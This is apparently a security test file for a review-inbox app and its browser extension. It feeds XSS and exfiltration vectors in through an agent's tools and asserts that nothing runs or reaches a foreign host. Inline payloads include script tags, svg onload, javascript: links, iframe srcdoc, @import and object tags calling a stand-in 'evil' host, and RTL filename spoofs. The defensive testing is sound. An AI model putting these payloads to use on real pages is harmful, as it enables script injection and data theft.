// Everything an agent sends is untrusted: markdown, code, diffs, captions, titles, project names,
// choice labels, points, answers and even its client name. A hostile agent sends a corpus of XSS and
// exfiltration vectors through the real MCP tools, and the person opens every ask in the real side
// panel and in the web inbox. Neither may run a script, show a dialog, navigate, open a frame, or
// send a request anywhere but the relay.
//
// The side panel runs as shipped, under the extension's Content-Security-Policy, and a CSP
// violation in the live page fails the test (something got past the renderers and only the CSP
// stopped it).
// The web inbox runs with its CSP switched off, so the renderers alone are what hold; a separate
// test checks the relay does serve that CSP.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { diffLines } from "@loopback/shared/ask-rules/diff-lines";
import type { Block, ReviewComment, Snapshot, ToolReply } from "@loopback/shared/generated/types";
import { TestAgent } from "./harness/agent";
import { HARMLESS, Watch, inspect } from "./harness/attack-watch";
import { TestBrowser, ensureBuilt, openWebInbox } from "./harness/browser";
import { findEscapes } from "./harness/dom-inspectors";
import { ALL_MARKDOWN, HOSTILE_CODE, HOSTILE_DIFF, LONG_UNICODE, RTL, VECTORS, coverVectors, evil, run, tag } from "./harness/hostile-corpus";
import { ROOT, RelayProcess } from "../support/relay-process.ts";
import { STEP_MS } from "./harness/timeouts";

/** How long a page is left alone after rendering, so a delayed payload (an onerror, a refresh) gets its chance. */
const SETTLE_MS = 600;
const PNG = new Uint8Array(readFileSync(join(ROOT, "extension/public/icon/128.png")));

/** An ask the hostile agent opened. */
interface SentAsk {
  id: string;
  name: string;
  /** Text the rendered ask must show, proving it was rendered: plain-text fields show their markup literally. */
  shows: string[];
}

// --- the run --------------------------------------------------------------------------------------

let relay: RelayProcess;
let extension: TestBrowser;
let web: TestBrowser;
let agent: TestAgent;
let personToken: string;
const sent: SentAsk[] = [];

async function person<T>(method: string, path: string, body?: unknown): Promise<T> {
  const response = await fetch(`${relay.url}/api/v1${path}`, {
    method,
    headers: { Authorization: `Bearer ${personToken}`, "Content-Type": "application/json", "Loopback-Revision": "3" },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
  return (await response.json()) as T;
}

/** Opens an ask with every tool a hostile agent has, and carries the briefing and the question through a turn each. */
async function sendCorpus(): Promise<void> {
  const open = async (tool: string, args: Record<string, unknown>) => (await agent.call<ToolReply>(tool, args)).askId;

  const markdownReview = await open("request_review", {
    title: `Markdown ${tag("review-title")} <script>${run("review-title-script")}</script>`,
    summary: ALL_MARKDOWN,
    project: `${tag("project")}`,
    content: [...VECTORS, ...coverVectors()].map(([name, source]): Block => ({ type: "markdown", text: `### ${name}\n\n${source}` })),
  });
  sent.push({ name: "a review of markdown blocks", id: markdownReview, shows: [`Markdown ${tag("review-title")}`, tag("project"), "md javascript link", "raw javascript link", "hover me", "cover link", "a dialog over the app", "not the app"] });

  const image = await agent.uploadImage(PNG, `${tag("caption")}"><script>${run("caption-script")}</script>`);
  const codeReview = await open("request_review", {
    title: `Code and diffs ${tag("code-review-title")}`,
    summary: "Code, diffs and an image, all hostile.",
    project: `<svg onload="${run("project-svg")}">`,
    content: [
      ...HOSTILE_CODE,
      { type: "diff", diff: HOSTILE_DIFF },
      { type: "diff", filename: `${tag("diff-filename")}.ts`, diff: `@@ -1 +1 @@\n-<script>${run("hunk-only-old")}</script>\n+<script>${run("hunk-only-new")}</script>` },
      image,
    ],
  });
  sent.push({ name: "a review of code, diffs and an image", id: codeReview, shows: [`<script>${run("diff-context")}</script>`, `${tag("code-filename")}.html`, `${tag("diff-filename")}.ts`, `${tag("caption")}"><script>`] });

  const question = await open("ask_question", {
    question: `Which ${tag("question-title")} one?\n\n${ALL_MARKDOWN}`,
    context: ALL_MARKDOWN,
    project: `${RTL}gnp.exe`,
    options: [
      { label: tag("label-1"), description: `<script>${run("description")}</script>` },
      { label: `<a href="javascript:${run("label-2")}">two</a>`, description: `[x](javascript:${run("description-md")})` },
      { label: `${RTL}evorppA`, description: "An RTL override in a label" },
    ],
  });
  await person("POST", `/asks/${question}/reply`, { outcome: "follow_up", question: "Say more?" });
  await open("answer_follow_up", {
    askId: question,
    answer: `Follow-up ${tag("follow-up")}\n\n${ALL_MARKDOWN}`,
    content: [{ type: "diff", diff: HOSTILE_DIFF }, HOSTILE_CODE[1]!],
  });
  sent.push({ name: "a question with choices and a follow-up", id: question, shows: [tag("label-1"), `<a href="javascript:${run("label-2")}">two</a>`, "Say more?", "Follow-up"] });

  const briefing = await open("send_briefing", {
    title: `Briefing ${tag("briefing-title")}`,
    summary: ALL_MARKDOWN,
    project: `<style>@import url(${evil("project-style.css")})</style>`,
    sections: [
      {
        title: `Section ${tag("section-title")}`,
        points: [
          { title: `Point ${tag("point-title")}`, detail: ALL_MARKDOWN, content: [{ type: "diff", diff: HOSTILE_DIFF }] },
          { title: `${RTL}Point with an RTL override`, detail: `<iframe srcdoc="<script>parent.${run("point-detail")}</script>"></iframe>`, content: [HOSTILE_CODE[0]!] },
        ],
      },
    ],
  });
  await person("POST", `/asks/${briefing}/reply`, { outcome: "responded", points: [{ point: "1", text: "Why?" }] });
  await open("answer_briefing", {
    askId: briefing,
    answers: [
      {
        point: "1",
        answer: `Answer ${tag("briefing-answer")}\n\n${ALL_MARKDOWN}`,
        content: [HOSTILE_CODE[4]!],
        points: [{ title: `Sub-point ${tag("sub-point")}`, detail: `<object data="${evil("sub-point.swf")}"></object>` }],
      },
    ],
  });
  sent.push({ name: "a briefing answered once", id: briefing, shows: [`Point ${tag("point-title")}`, `Sub-point ${tag("sub-point")}`, `Section ${tag("section-title")}`, "Why?", "Answer"] });

  const unicode = await open("ask_question", {
    question: `${"𒐫".repeat(80)}${RTL}gnp.exe\n\n${LONG_UNICODE}`,
    context: LONG_UNICODE,
    project: `${RTL}${"ﷺ".repeat(50)}`,
  });
  sent.push({ name: "a question of long unicode and RTL overrides", id: unicode, shows: ["gnp.exe"] });

  // Comments on lines of hostile files, every vector as a comment's words; then a second round, whose
  // changes since the first show those comments beside their lines (and, where not, beside the block).
  const firstRound = await open("request_review", {
    title: `Round one ${tag("round-one-title")}`,
    project: "rounds",
    content: [{ type: "markdown", text: ALL_MARKDOWN }, HOSTILE_CODE[0]!, { type: "diff", diff: HOSTILE_DIFF }],
  });
  const files = diffLines(HOSTILE_DIFF);
  const anchors: Omit<ReviewComment, "body">[] = [
    { block: 0 },
    ...[1, 2, 3].map((line) => ({ block: 1, line })),
    ...files.flatMap((f) => [...[...f.new].map((line) => ({ block: 2, file: f.path, side: "new" as const, line })), ...[...f.old].map((line) => ({ block: 2, file: f.path, side: "old" as const, line }))]),
  ];
  const comments: ReviewComment[] = VECTORS.map(([, source], i) => ({ ...anchors[i % anchors.length]!, body: source }));
  await person("POST", `/asks/${firstRound}/reply`, { outcome: "changes_requested", feedback: `Overall ${tag("overall-feedback")}`, comments });
  sent.push({ name: "a review answered with hostile comments on hostile files", id: firstRound, shows: [files[0]!.path, "New line 1", `<script>${run("script")}</script>`] });
  const secondRound = await open("request_review", {
    title: `Round two ${tag("round-two-title")}`,
    project: "rounds",
    revises: firstRound,
    content: [{ type: "markdown", text: "Addressed." }, { ...HOSTILE_CODE[0]!, code: HOSTILE_CODE[0]!.type === "code" ? HOSTILE_CODE[0]!.code.replace("script", "SCRIPT") : "" }, { type: "diff", diff: HOSTILE_DIFF.replace("diff-added", "diff-added-again") }],
  });
  sent.push({ name: "its second round, compared with the first", id: secondRound, shows: ["Round 1", `<svg onload="${run("svg-onload")}"></svg>`, "diff-added-again"] });

  const snapshot = await person<Snapshot>("GET", "/snapshot");
  expect([...snapshot.open, ...snapshot.recent].map((a) => a.id).sort()).toEqual(sent.map((s) => s.id).sort());
}

/** Opens an ask, unfolds everything in it, and waits until every renderer has finished. */
async function openFully(page: Page, id: string): Promise<void> {
  await page.evaluate((askId) => (location.hash = `#/ask/${encodeURIComponent(askId)}`), id);
  const article = page.locator(`article[data-ask="${id}"]`);
  await article.waitFor({ timeout: STEP_MS });
  for (let round = 0; round < 5; round++) {
    const folded = article.locator("button[aria-expanded=false]");
    const count = await folded.count();
    if (!count) break;
    for (let i = count - 1; i >= 0; i--) await folded.nth(i).click();
  }
  await page.waitForFunction(
    (askId) => {
      const root = document.querySelector(`article[data-ask="${askId}"]`);
      return !!root && !root.querySelector(".pending, [aria-busy=true]");
    },
    id,
    { timeout: STEP_MS },
  );
  await page.waitForTimeout(SETTLE_MS);
}

/** Every hostile ask, opened in turn on one surface: nothing fires, nothing leaves, nothing dangerous in the DOM. */
async function expectEveryAskHarmless(page: Page, watch: Watch): Promise<void> {
  const start = page.url().split("#")[0]!;
  for (const ask of sent) {
    await openFully(page, ask.id);
    expect({ ask: ask.name, ...(await inspect(page, watch, start)) }).toEqual({ ask: ask.name, ...HARMLESS });
    expect({ ask: ask.name, escapes: await page.evaluate(findEscapes, ask.id) }).toEqual({ ask: ask.name, escapes: [] });
    const text = await page.locator(`article[data-ask="${ask.id}"]`).textContent();
    for (const literal of ask.shows) expect(text).toContain(literal);
  }
  // The second round's changes were drawn, with the first round's comments placed in them.
  await openFully(page, sent.at(-1)!.id);
  expect(await page.locator("[data-round-changes] [data-comment=earlier]").count()).toBe(VECTORS.length);
  expect(await page.locator("[data-round-changes] tr.lb-below-row [data-comment=earlier]").count()).toBeGreaterThan(0);
  // The code review showed both the highlighted code and diff2html's tables, so they were exercised.
  await openFully(page, sent[1]!.id);
  await page.locator(".highlighted pre.shiki").nth(2).waitFor({ timeout: STEP_MS });
  expect(await page.locator(".d2h-file-wrapper").count()).toBeGreaterThanOrEqual(3);
  expect(await page.locator("img[src^='blob:']").count()).toBe(1);

  // And the list, with every title, project and client name in it.
  await page.evaluate(() => (location.hash = "#/"));
  await page.locator(".list-pane").waitFor({ timeout: STEP_MS });
  for (const ask of sent) await page.locator(`[data-ask-row="${ask.id}"]`).waitFor({ timeout: STEP_MS });
  await page.waitForTimeout(SETTLE_MS);
  expect({ ask: "the list", ...(await inspect(page, watch, start)) }).toEqual({ ask: "the list", ...HARMLESS });
}

/** The traps catch what they are for: a payload run on purpose, a foreign fetch, an alert, and (under a CSP) a live handler. */
async function expectTrapsLive(page: Page, watch: Watch, { csp }: { csp: boolean }): Promise<void> {
  await page.evaluate(() => (globalThis as unknown as { __pwned(what: string): void }).__pwned("on purpose"));
  await page.evaluate(() => fetch("http://evil.example/on-purpose").catch(() => {}));
  await page.evaluate(() => setTimeout(() => alert("on purpose")));
  if (csp) await page.evaluate(() => document.body.insertAdjacentHTML("beforeend", `<i hidden onclick="void 0">on purpose</i>`));
  await page.waitForTimeout(300);
  expect(watch.fired.some((f) => f.startsWith("on purpose"))).toBe(true);
  if (csp) expect(watch.fired.some((f) => f.startsWith("CSP script-src-attr blocked inline at <i hidden"))).toBe(true);
  await page.evaluate(() => document.querySelectorAll("i[onclick]").forEach((i) => i.remove()));
  expect(watch.foreign).toContain("http://evil.example/on-purpose");
  expect(watch.dialogs).toContain("alert: on purpose");
  watch.reset();
}

describe("untrusted content cannot attack the person", () => {
  beforeAll(async () => {
    await ensureBuilt();
    // Blocking tools return `pending` after 100 ms, so one agent can open every ask without waiting on it.
    relay = await new RelayProcess({ env: { LOOPBACK_WAIT_BUDGET_S: "0.1", LOOPBACK_PROGRESS_EVERY_S: "0" }, firstPerson: "Ada" }).start();
    personToken = await relay.token("Ada");
    const agentToken = await relay.token("Ada", { agent: true });
    // Even the name the agent's client announces is shown, so it is hostile too.
    agent = await TestAgent.connect(relay.url, agentToken, `${tag("client-name")}${RTL}`);
    await sendCorpus();
    extension = await TestBrowser.withExtension();
    web = await TestBrowser.plain({ bypassCSP: true, signedIn: { relayUrl: relay.url, token: personToken } });
  }, 120_000);

  afterAll(async () => {
    await agent?.close().catch(() => {});
    await extension?.close();
    await web?.close();
    await relay?.dispose();
  });

  test(`in the side panel, none of ${VECTORS.length} vectors in any field runs a script or reaches a foreign host`, async () => {
    const relayOrigin = new URL(relay.url).origin;
    await extension.connect(relay.url, personToken);
    const watch = await Watch.install(extension.context, (url) => url.origin === relayOrigin || url.protocol === "chrome-extension:" || url.protocol === "blob:" || url.protocol === "data:");
    const panel = await extension.page("sidepanel.html");
    await panel.locator("[data-connection=live]").waitFor({ timeout: STEP_MS });
    await expectTrapsLive(panel, watch, { csp: true });
    await expectEveryAskHarmless(panel, watch);
    await panel.close();
  }, 180_000);

  test(`in the web inbox with its CSP off, the renderers alone keep all ${VECTORS.length} vectors inert`, async () => {
    const relayOrigin = new URL(relay.url).origin;
    const watch = await Watch.install(web.context, (url) => url.origin === relayOrigin || url.protocol === "blob:" || url.protocol === "data:");
    const page = await web.context.newPage();
    await page.setViewportSize({ width: 1200, height: 900 });
    await openWebInbox(page, relay.url);
    await expectTrapsLive(page, watch, { csp: false });
    await expectEveryAskHarmless(page, watch);
    await page.close();
  }, 180_000);

  test("the web inbox is served with a Content-Security-Policy that allows no inline or foreign script", async () => {
    for (const path of ["/inbox/", `/inbox/#/ask/${sent[0]!.id}`, "/inbox/index.html"]) {
      const response = await fetch(`${relay.url}${path}`);
      const csp = response.headers.get("content-security-policy") ?? "";
      const directives = new Map(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values]));
      const scripts = directives.get("script-src") ?? directives.get("default-src") ?? [];
      expect(scripts).toContain("'self'");
      expect(scripts.filter((s) => s !== "'self'" && s !== "'wasm-unsafe-eval'")).toEqual([]);
      expect(directives.get("object-src")).toEqual(["'none'"]);
      expect(directives.get("base-uri")).toEqual(["'none'"]);
      expect(directives.get("frame-ancestors")).toEqual(["'none'"]);
      for (const fetches of ["img-src", "connect-src", "default-src"]) {
        for (const source of directives.get(fetches) ?? []) expect(source).toMatch(/^('self'|'none'|blob:|data:|wss?:)$/);
      }
    }
  });
});
